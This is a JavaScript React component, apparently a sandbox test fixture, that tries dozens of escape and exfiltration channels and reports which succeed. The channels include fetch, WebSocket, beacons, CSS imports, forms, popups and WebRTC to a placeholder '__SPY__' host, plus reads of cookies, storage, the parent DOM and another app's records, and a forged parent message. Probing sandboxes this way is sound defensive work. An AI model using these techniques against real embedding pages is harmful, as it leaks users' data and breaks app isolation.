import { createElement as h, useEffect, useState } from 'react';
import { useRecords } from 'calisson';
const SPY = '__SPY__', HOME = '__HOME__', OTHER = '__OTHER__';
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const TRIES = {
  fetch: async () => { await fetch(SPY + '/fetch', { mode: 'no-cors' }); return 'OUT'; },
  home_fetch: async () => (await fetch(HOME + '/api/v1/apps', { credentials: 'include' })).status,
  other_app: async () => (await (await fetch(HOME + '/api/v1/apps/' + OTHER + '/records', { credentials: 'include' })).json()).total,
  xhr: () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = () => done('OUT'); x.onerror = no; x.open('GET', SPY + '/xhr'); x.send(); }),
  socket: () => new Promise((done, no) => { const s = new WebSocket(SPY.replace('http', 'ws') + '/ws'); s.onopen = () => done('OUT'); s.onerror = no; }),
  events: () => new Promise((done, no) => { const s = new EventSource(SPY + '/sse'); s.onopen = () => done('OUT'); s.onerror = no; }),
  beacon: async () => { navigator.sendBeacon(SPY + '/beacon', 'x'); await wait(50); throw 0; },
  image: () => new Promise((done, no) => { const i = new Image(); i.onload = () => done('OUT'); i.onerror = no; i.src = SPY + '/img'; }),
  css: async () => { const s = document.createElement('style'); s.textContent = `@import "${SPY}/css"; body{background:url(${SPY}/bg)} @font-face{font-family:q;src:url(${SPY}/font)} p{font-family:q}`; document.head.append(s); await wait(100); throw 0; },
  sheet: async () => { new CSSStyleSheet().replaceSync('@import "' + SPY + '/sheet"'); throw 0; },
  module: async () => { await import(SPY + '/m.js'); return 'OUT'; },
  data_module: async () => { await import('data:text/javascript,export default 1'); return 'OUT'; },
  blob_module: async () => { await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); return 'OUT'; },
  eval: async () => { (0, eval)('1'); return 'OUT'; },
  markup: async () => { const d = document.createElement('div'); d.innerHTML = `<img src="${SPY}/markup"><link rel=preconnect href="${SPY}">`; document.body.append(d); return 'OUT'; },
  parser: async () => { document.adoptNode(new DOMParser().parseFromString('<link rel=preconnect href="' + SPY + '">', 'text/html').querySelector('link')); return 'OUT'; },
  preconnect: async () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = SPY; document.head.append(l); await wait(100); if (l instanceof HTMLLinkElement) return 'OUT'; throw 0; },
  prefetch: async () => { const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.rel = 'prefetch'; l.href = SPY + '/prefetch'; document.head.append(l); await wait(100); if (l instanceof HTMLLinkElement) return 'OUT'; throw 0; },
  speculation: async () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [SPY + '/spec'] }] }); document.head.append(s); await wait(50); throw 0; },
  parent_dom: async () => parent.document.title,
  top_dom: async () => top.document.body.innerHTML.length,
  parent_var: async () => parent.localStorage.length,
  cookie: async () => document.cookie || 'empty',
  local: async () => localStorage.length,
  session: async () => sessionStorage.length,
  database: async () => { const r = indexedDB.open('x'); await new Promise((d, n) => { r.onsuccess = d; r.onerror = n; }); return 'OUT'; },
  caches: async () => { await caches.open('x'); return 'OUT'; },
  worker: () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('OUT'); w.onerror = no; }),
  service: async () => { await navigator.serviceWorker.register('/sw.js'); return 'OUT'; },
  top_away: async () => { top.location = SPY + '/top'; await wait(50); throw 0; },
  popup: async () => { const w = Window.prototype.open ? Window.prototype.open.call(window, SPY + '/popup') : window.open(SPY + '/popup'); if (w) return 'OUT'; throw 0; },
  link: async () => { const a = document.createElement('a'); a.href = SPY + '/link'; a.target = '_blank'; a.ping = SPY + '/ping'; document.body.append(a); a.click(); await wait(50); throw 0; },
  download: async () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click(); await wait(50); throw 0; },
  form: async () => { const f = document.createElement('form'); f.method = 'post'; f.action = SPY + '/form'; document.body.append(f); f.submit(); await wait(50); throw 0; },
  frame: async () => { const f = document.createElement('iframe'); f.src = SPY + '/frame'; document.body.append(f); await wait(50); if (f.contentWindow) return 'OUT'; throw 0; },
  rtc: async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:__UDP__' }] }); p.createDataChannel('x'); await p.setLocalDescription(); await wait(300); return 'OUT'; },
  geolocation: () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(() => done('OUT'), no)),
  clipboard: async () => { await navigator.clipboard.writeText('x'); return 'OUT'; },
  alert: async () => { if (confirm('x')) return 'OUT'; throw 0; },
  foreign_message: async () => { parent.postMessage({ calisson: 1, type: 'change', ask: 1, entity: 'day', change: { remove: ['x'] } }, '*'); throw 0; },
};
export default function Hostile() {
  const [out, put] = useState({});
  const [tried, setTried] = useState(false);
  const { records } = useRecords('secret');
  useEffect(() => { void (async () => {
    const all = {};
    for (const [name, go] of Object.entries(TRIES)) {
      let got;
      try { got = await Promise.race([go(), wait(1500).then(() => { throw 0; })]); } catch { got = 'no'; }
      all[name] = String(got);
      put({ ...all });
    }
    setTried(true);
  })(); }, []);
  return h('pre', { id: tried ? 'tried' : 'trying' }, JSON.stringify({ ...out, foreign: String(records.length) }));
}
